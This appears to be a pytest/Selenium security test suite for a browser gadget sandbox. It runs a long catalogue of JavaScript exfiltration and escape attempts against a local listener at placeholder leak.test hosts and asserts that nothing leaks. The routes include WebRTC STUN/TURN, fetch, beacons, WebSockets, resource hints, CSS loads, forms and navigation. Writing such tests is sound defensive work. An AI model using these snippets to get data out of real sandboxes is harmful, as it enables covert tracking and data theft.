"""Every known way out of a browser, tried by a gadget. None may send a packet, open a connection or
look up a host name."""

import contextlib
import itertools
import re
import socket
import threading
import time

import pytest
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait

from gomokutest import live
from gomokutest.checks import same
from gomokutest.environment import TIMEOUT
from gomokutest.gadgets import WholeGadgetWindow

MARKS = itertools.count(1)


@pytest.fixture
def pair(gadget_windows, pair):
    pair.expect("")  # The browser logs everything that the gadgets' policy refuses.
    return pair


PEER = (
    "var p = new RTCPeerConnection({iceServers: [{urls: ['STUN', 'NAMED']},"
    " {urls: 'TURN?transport=tcp', username: 'a', credential: 'b'}]});"
    " p.createDataChannel('x'); p.createOffer().then(function (o) { p.setLocalDescription(o); })"
)
LINK = (
    "var l = document.createElement('link'); l.rel = '%s'; l.as = 'script'; l.href = 'WEB/link';"
    " document.head.appendChild(l)"
)
FRAME = "var f = document.createElement('iframe'); document.body.appendChild(f)"
INNER = (
    'var inner = \'<link rel=preconnect href=WEB/><script>parent.postMessage("inner", "*"); '
    + PEER.replace("'", '"')
    + "</scr' + 'ipt>'; window.heard = window.heard || [];"
    " addEventListener('message', function (e) { if (e.data === 'inner') heard.push(1); });"
)
CLICK = (
    "var a = document.createElement('a'); a.href = 'WEB/link'; %s; document.body.appendChild(a);"
    " HTMLElement.prototype.click.call(a)"
)
FORM = (
    "var f = document.createElement('form'); f.action = 'WEB/form'; %s; document.body.appendChild(f);"
    " HTMLFormElement.prototype.submit.call(f)"
)

# Attempts that leave the gadget in place, by name. WEB, STUN, NAMED and TURN are replaced by
# addresses of a Listener.
STAYING = {
    "peer": PEER,
    "peer of a frame": f"{FRAME}; var RTCPeerConnection = f.contentWindow.RTCPeerConnection; {PEER}",
    "webtransport": "new WebTransport('WEB/transport'.replace('http:', 'https:'))",
    "srcdoc": f"{INNER} var f = document.createElement('iframe'); f.srcdoc = inner; document.body.appendChild(f)",
    "srcdoc, set later": f"{INNER} {FRAME}; f.setAttribute('srcdoc', inner)",
    "srcdoc, a busy parent": f"{INNER} var f = document.createElement('iframe'); f.srcdoc = inner; var d ="
    f" document.createElement('div'); d.appendChild(f);"
    " document.body.appendChild(d); var end = Date.now() + 200; while (Date.now() < end) {}",
    "srcdoc in a shadow": f"{INNER} var f = document.createElement('iframe'); f.srcdoc = inner; var d ="
    f" document.createElement('div');"
    " document.body.appendChild(d); d.attachShadow({mode: 'closed'}).appendChild(f)",
    "frame": "var f = document.createElement('iframe'); f.src = 'WEB/frame'; document.body.appendChild(f)",
    "a frame's location": f"{FRAME}; f.contentWindow.location = 'WEB/frame'",
    "window": "window.open('WEB/open')",
    "window, its own": f"{FRAME}; f.contentWindow.open('WEB/open')",
    "window, Window's": "Window.prototype.open ? Window.prototype.open.call(window, 'WEB/open') : 0",
    "window above": "window.open('WEB/open', '_top')",
    "location above": "top.location = 'WEB/top'",
    "link, blank": CLICK % "a.target = '_blank'",
    "link, named": CLICK % "a.target = 'other'; a.download = 'x'",
    "ping": "var a = document.createElement('a'); a.href = '#x'; a.ping = 'WEB/ping'; document.body.appendChild(a);"
    " a.click()",
    "form, blank": FORM % "f.target = '_blank'",
    "form, above": FORM % "f.target = '_top'; f.method = 'post'",
    "fetch": "fetch('WEB/fetch', {mode: 'no-cors'})",
    "fetch, kept alive": "fetch('WEB/fetch', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch, later": "fetchLater('WEB/later', {activateAfter: 0})",
    "beacon": "navigator.sendBeacon('WEB/beacon', 'x')",
    "events": "new EventSource('WEB/events')",
    "socket": "new WebSocket('WEB/socket'.replace('http', 'ws'))",
    "socket stream": "new WebSocketStream('WEB/socket'.replace('http', 'ws'))",
    "request": "var x = new XMLHttpRequest(); x.open('POST', 'WEB/request'); x.send('x')",
    "request, waiting": "var x = new XMLHttpRequest(); x.open('GET', 'WEB/request', false); x.send()",
    "image": "new Image().src = 'WEB/image'",
    "image, a set": "var i = new Image(); i.srcset = 'WEB/image 2x'; document.body.appendChild(i)",
    "image, attributed": "var i = new Image(); i.attributionSrc = 'WEB/attribution'",
    "media": "document.body.insertAdjacentHTML('beforeend', '<video src=WEB/video poster=WEB/poster"
    " autoplay></video><audio src=WEB/audio></audio>"
    "<video><track default src=WEB/track></video><picture><source srcset=WEB/source><img"
    " src=WEB/picture></picture><input type=image src=WEB/input>')",
    "plugins": "document.body.insertAdjacentHTML('beforeend', '<object data=WEB/object></object><embed"
    " src=WEB/embed><applet archive=WEB/applet></applet>')",
    "frames of old": "document.documentElement.insertAdjacentHTML('beforeend', '<frameset><frame"
    " src=WEB/frame></frameset>');"
    " var f = document.createElement('frame'); f.src = 'WEB/frame'; document.body.appendChild(f)",
    "fenced": "var f = document.createElement('fencedframe'); document.body.appendChild(f); f.config = new"
    " FencedFrameConfig('WEB/fenced')",
    "portal": "var f = document.createElement('portal'); f.src = 'WEB/portal'; document.body.appendChild(f)",
    "svg": "document.body.insertAdjacentHTML('beforeend', '<svg><image href=WEB/image></image><use"
    " href=WEB/use#x></use><filter id=f><feImage href=WEB/f></feImage>"
    "</filter><rect filter=url(#f) width=9 height=9></rect><rect fill=url(WEB/fill#x) width=9"
    " height=9></rect><script href=WEB/script></script></svg>')",
    "css": "var s = document.createElement('style'); s.textContent = '@import \"WEB/import\"; @font-face {"
    " font-family: x; src: url(WEB/font) }"
    " body { font-family: x; background: url(WEB/background); cursor: url(WEB/cursor), auto; mask:"
    " url(WEB/mask#x); list-style: url(WEB/list);"
    " border-image: url(WEB/border); filter: url(WEB/filter#x) } body::before { content: url(WEB/content) }"
    ' body { background-image: image-set("WEB/set" 1x) }\';'
    " document.head.appendChild(s)",
    "font": "new FontFace('y', 'url(WEB/font)').load()",
    "import": "import('WEB/module.js')",
    "script": "var s = document.createElement('script'); s.src = 'WEB/script.js'; document.head.appendChild(s)",
    "module": "var s = document.createElement('script'); s.type = 'module'; s.textContent = 'import"
    ' "WEB/module.js"\'; document.head.appendChild(s)',
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"WEB/worker\")'])))",
    "worker's scripts": "importScripts('WEB/x.js')",
    "shared worker": "new SharedWorker('data:text/javascript,fetch(\"WEB/shared\")')",
    "service worker": "navigator.serviceWorker.register('/gadget/lib/empty.js')",
    "worklet": "CSS.paintWorklet.addModule('WEB/worklet.js')",
    "sound worklet": "new AudioContext().audioWorklet.addModule('WEB/worklet.js')",
    **{
        f"link {rel}": LINK % rel
        for rel in (
            "preconnect",
            "dns-prefetch",
            "prefetch",
            "preload",
            "modulepreload",
            "prerender",
            "next",
            "manifest",
            "stylesheet",
            "icon",
            "apple-touch-icon",
            "compression-dictionary",
            "expect",
        )
    },
    "preconnect in markup": "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect crossorigin"
    " href=WEB/>')",
    "preconnect written": "document.body.appendChild(document.createRange().createContextualFragment('<link"
    ' rel="preconnect" href=WEB/>\'))',
    "names of links": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=x-dns-prefetch-control"
    " content=on>');"
    " document.body.insertAdjacentHTML('beforeend', '<a href=WEB/link>x</a>')",
    **{
        f"rules to {what}": "var s = document.createElement('script'); s.type = 'speculationrules';"
        f" s.textContent = JSON.stringify({{{what}: [{{source: 'list',"
        " urls: ['WEB/rules'], eagerness: 'immediate'}]}); document.head.appendChild(s)"
        for what in ("prefetch", "prerender")
    },
    "report": "var m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = 'img-src"
    " *; report-uri WEB/report';"
    " document.head.appendChild(m); new Image().src = 'WEB/reported'; reportError(new Error('WEB/error'))",
    "payment": "new PaymentRequest([{supportedMethods: 'WEB/pay'}], {total: {label: 'x', amount: {currency: 'USD',"
    " value: '1'}}}).canMakePayment()",
    "identity": "navigator.credentials.get({identity: {providers: [{configURL: 'WEB/config', clientId: '1'}]}})",
    "presentation": "new PresentationRequest('WEB/show').getAvailability()",
    "entity": "new DOMParser().parseFromString('<!DOCTYPE x SYSTEM \"WEB/dtd\"><x/>', 'text/xml')",
    "editing": "document.designMode = 'on'; document.execCommand('insertImage', false, 'WEB/edited');"
    " document.designMode = 'off'",
}

# Attempts that replace the gadget, or try to.
LEAVING = {
    "location": "location.href = 'WEB/leave'",
    "location, replaced": "location.replace('WEB/leave')",
    "its window": "window.open('WEB/leave', '_self')",
    "navigation": "navigation.navigate('WEB/leave')",
    "refresh": "document.head.insertAdjacentHTML('beforeend',"
    " '<meta http-equiv=refresh content=\"0; url=WEB/leave\">')",
    "link": CLICK % "a.onclick = function (e) { e.stopImmediatePropagation(); }",
    "link, kept": CLICK % "a.download = 'x'; a.onclick = function (e) { e.stopPropagation(); }",
    "form": FORM % "",
    "form, posted": FORM % "f.method = 'post'",
    "markup of its own": "location = 'data:text/html,<link rel=preconnect href=WEB/>'",
    "a file of its own": "location = URL.createObjectURL(new Blob(['<link rel=preconnect href=WEB/><script>' +"
    " 'location = \"WEB/leave\"</scr' + 'ipt>'], {type: 'text/html'}))",
    "a script for an address": "location = 'javascript:\"<link rel=preconnect href=WEB/>\"'",
    "another page of the server": "location = '/gadgets/leaves.html'",
}


class Listener:
    """Listening ports that record everything that reaches them: packets, connections, and the first
    line of each connection."""

    def __enter__(self):
        self.packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.packets.bind(("127.0.0.1", 0))
        self.connections = socket.create_server(("127.0.0.1", 0))
        self.udp, self.tcp = self.packets.getsockname()[1], self.connections.getsockname()[1]
        self.noted, self.open = [], []
        for work in (self.listen, self.accept):
            threading.Thread(target=work, daemon=True).start()
        return self

    def addresses(self, host):
        # One STUN server is given by IP address, so that its packet would be noticed even without a
        # name lookup.
        return {
            "WEB": f"http://{host}:{self.tcp}",
            "TURN": f"turn:{host}:{self.tcp}",
            "NAMED": f"stun:{host}:{self.udp}",
            "STUN": f"stun:127.0.0.1:{self.udp}",
        }

    def by_number(self, _=0):
        return self.addresses("127.0.0.1")

    def by_name(self, number):
        """Returns addresses with a host name that Mallory's browser resolves to this machine."""
        return self.addresses(f"way{number}.leak.test")

    def listen(self):
        with contextlib.suppress(OSError):
            while True:
                self.noted.append(f"a packet of {len(self.packets.recvfrom(4096)[0])} bytes")

    def accept(self):
        with contextlib.suppress(OSError):
            while True:
                connection = self.connections.accept()[0]
                self.noted.append("a connection")
                self.open.append(connection)
                threading.Thread(target=self.read, args=(connection,), daemon=True).start()

    def read(self, connection):
        with contextlib.suppress(OSError):
            if first := connection.recv(200):
                self.noted.append(first.split(b"\r\n")[0].decode("latin1"))

    def received(self):
        """Returns everything that has reached the ports."""
        # Nothing signals that no packet will come. STUN retransmits after half a second at the
        # latest.
        time.sleep(1.5)
        return list(self.noted)

    def __exit__(self, *_):
        for each in (self.packets, self.connections, *self.open):
            each.close()


class Mallory:
    """A window of the full browser with a network log, for hostile code."""

    def __init__(self, server, directory):
        self.server, self.log, self.read = server, directory / "network.json", 0
        # Outside names resolve to this machine, so code that gets out reaches a Listener, and its
        # name is in the log.
        self.window = WholeGadgetWindow(
            server.url,
            "Mallory",
            arguments=[f"--log-net-log={self.log}", "--host-resolver-rules=MAP *.leak.test 127.0.0.1"],
        )

    def attempt(self, code, addresses):
        """Runs hostile code. An exception means that the browser has blocked the attempt."""
        for word, address in addresses.items():
            code = code.replace(word, address)
        self.window.script(f"try {{ {code} }} catch (error) {{ }}")

    def names(self):
        """Returns the host names that the browser tried to look up since the last call."""
        mark = f"mark{next(MARKS)}"

        def told(_):
            # The browser writes its log with a delay of a few events. These requests flush it.
            self.window.driver.get(f"{self.server.url}/metrics?{mark}")
            text = self.log.read_text(encoding="utf-8", errors="replace")[self.read :]
            return text if mark in text else None

        text = WebDriverWait(None, TIMEOUT, 0.1).until(told, "the log of the network")
        self.read += len(text)
        return sorted(set(re.findall(r"way\d+\.leak\.test", text)))

    def reset(self):
        """Closes all tabs but the first."""
        driver = self.window.driver
        first, *others = driver.window_handles
        for handle in others:
            driver.switch_to.window(handle)
            driver.close()
        driver.switch_to.window(first)


@pytest.fixture(scope="module")
def logged_browser(gadget_server, tmp_path_factory):
    """The browser for hostile code that the tests of the module share."""
    mallory = Mallory(gadget_server, tmp_path_factory.mktemp("log"))
    yield mallory
    live.ended(mallory.window)
    mallory.window.driver.quit()


@pytest.fixture
def mallory(logged_browser):
    yield logged_browser
    logged_browser.reset()


@pytest.fixture
def listener():
    with Listener() as listener:
        yield listener


# Addresses by host name, which could leak through a lookup, and by IP address.
ADDRESSES = pytest.mark.parametrize("addresses", ["by_name", pytest.param("by_number", marks=pytest.mark.full)])


def test_listener_records_an_unconfined_page(mallory, listener):
    """Proves that the listener and the log work. Otherwise the other tests could not fail."""
    mallory.window.driver.get(f"{mallory.server.url}/metrics")
    for number, way in enumerate(("peer", "fetch", "image")):
        mallory.attempt(STAYING[way], listener.by_name(number))
    told = " ".join(listener.received())
    assert "a packet of" in told and "GET /fetch" in told and "GET /image" in told, told
    same(mallory.names(), ["way0.leak.test", "way1.leak.test", "way2.leak.test"], "names in the log")


@ADDRESSES
def test_confined_gadget_sends_nothing_out(mallory, listener, addresses):
    """Tries peer connections, windows, links, forms, images, styles, workers, frames and resource
    hints."""
    window = mallory.window
    window.open("hostile.xml", "stays")
    for number, code in enumerate(STAYING.values()):
        mallory.attempt(code, getattr(listener, addresses)(number))
    # A browser loads images late, when it has nothing else to do.
    window.until(
        "all pictures are settled", "return document.images.length > 1 && [...document.images].every(i => i.complete)"
    )
    same(
        window.script("return document.querySelectorAll('iframe[srcdoc]').length + (window.heard || []).length"),
        0,
        "frames of its own that ran",
    )
    same(
        window.script("return typeof RTCPeerConnection + typeof webkitRTCPeerConnection"), "undefinedundefined", "peers"
    )
    same(listener.received(), [], "what was heard outside")
    same(mallory.names(), [], "names that the browser's network was asked for")


@ADDRESSES
@pytest.mark.parametrize("ways", [slice(5), slice(5, None)], ids=["to an address", "by a link, a form or a document"])
def test_gadget_that_leaves_its_frame_sends_nothing_out(mallory, listener, ways, addresses):
    """Tries the gadget's own navigation, and pages that it navigates to."""
    window = mallory.window
    leak = listener.by_name(len(LEAVING))["WEB"]
    mallory.server.put(
        "leaves.html", f"<link rel=preconnect href={leak}/><meta http-equiv=refresh content='0; url={leak}/x'>"
    )
    for number, code in enumerate(list(LEAVING.values())[ways]):
        # Each attempt gets a separate tab, where a navigation has time to finish.
        window.driver.switch_to.new_window("tab")
        window.open("hostile.xml", "leaves")
        mallory.attempt(f"setTimeout(function () {{ {code} }})", getattr(listener, addresses)(number))
    same(listener.received(), [], "what was heard outside")
    same(mallory.names(), [], "names that the browser's network was asked for")


def test_clicked_link_is_offered_with_its_whole_address(pair):
    """Links in a drawing are included. No window opens, and the gadget stays."""
    ann = pair.open_one("hostile.xml")
    with Listener() as listener:
        web = listener.by_number()["WEB"]
        ann.script(f"""document.body.insertAdjacentHTML('afterbegin',
            '<p><a id=out href={web}/link?' + wave.getWaveId() + '>out</a> <button id=opens>open</button></p>'
            + '<svg width=99 height=30><a href={web}/drawn><text id=drawn y=20>drawn</text></a></svg>'
            + '<svg width=99 height=30><a xlink:href={web}/older><text id=older y=20>older</text></a></svg>');
            document.getElementById('opens').addEventListener('click', function () {{
              window.handle = window.open('{web}/open?' + wave.getWaveId());
            }});""")
        offered = """const a = document.getElementById('link-open');
            return !a.closest('[hidden]') && a.href.includes(arguments[0])
                && document.getElementById('link-words').textContent.includes(a.href)"""
        for selector, keys, path in (
            ("#out", [], "/link?"),
            ("#opens", [], "/open?"),
            ("#drawn", [], "/drawn"),
            ("#older", [], "/older"),
            ("#out", [Keys.CONTROL], "/link?"),
            ("#out", [Keys.SHIFT], "/link?"),
        ):
            click(ann, selector, keys)
            ann.page_until(f"{path} is offered, whole", offered, path)
            ann.page_click("#link-dismiss")
        ann.script(
            "for (const type of ['click', 'auxclick']) for (const each of [window, document])"
            " each.addEventListener(type, e => e.stopImmediatePropagation(), true);"
            "Document.prototype.open.call(document); document.write('<a id=out href="
            + web
            + "/aside>out</a>'); document.close();"
            "for (const type of ['click', 'auxclick']) document.getElementById('out').addEventListener(type, e"
            " => e.stopImmediatePropagation(), true)"
        )
        for go in (
            lambda: middle_click(ann, "#out"),
            lambda: click(ann, "#out", [Keys.CONTROL]),
            lambda: click(ann, "#out", [Keys.SHIFT]),
        ):
            go()
            ann.page_until("offered, whole", offered, "/aside")
            ann.page_click("#link-dismiss")
        same(len(ann.driver.window_handles), 1, "no window")
        same(listener.received(), [], "what was heard outside")
        same(ann.script("return typeof wave"), "object", "the gadget is still there")


def click(window, selector, keys):
    chain = ActionChains(window.driver)
    for key in keys:
        chain.key_down(key)
    chain.click(window.driver.find_element(By.CSS_SELECTOR, selector))
    for key in keys:
        chain.key_up(key)
    chain.perform()


def middle_click(window, selector):
    """Clicks with the middle button, which opens links in tabs."""
    chain = ActionChains(window.driver).move_to_element(window.driver.find_element(By.CSS_SELECTOR, selector))
    chain.w3c_actions.pointer_action.pointer_down(button=1)
    chain.w3c_actions.pointer_action.pointer_up(button=1)
    chain.perform()


def test_gadget_that_left_its_frame_is_reported_and_reloadable(pair):
    ann = pair.open_one("hostile.xml")
    with Listener() as listener:
        ann.script(
            f"setTimeout(function () {{ location.href = '{listener.by_number()['WEB']}/leave?' + wave.getWaveId(); }})"
        )
        ann.page_until("it is told", "return document.querySelector('#trouble [data-key=gone]') !== null")
        same(listener.received(), [], "what was heard outside")
    ann.reload()
    ann.until("loaded again", "return typeof wave !== 'undefined' && wave.getState() !== null")
    same(ann.page("return document.querySelector('#trouble [data-key=gone]')"), None, "the report after the reload")
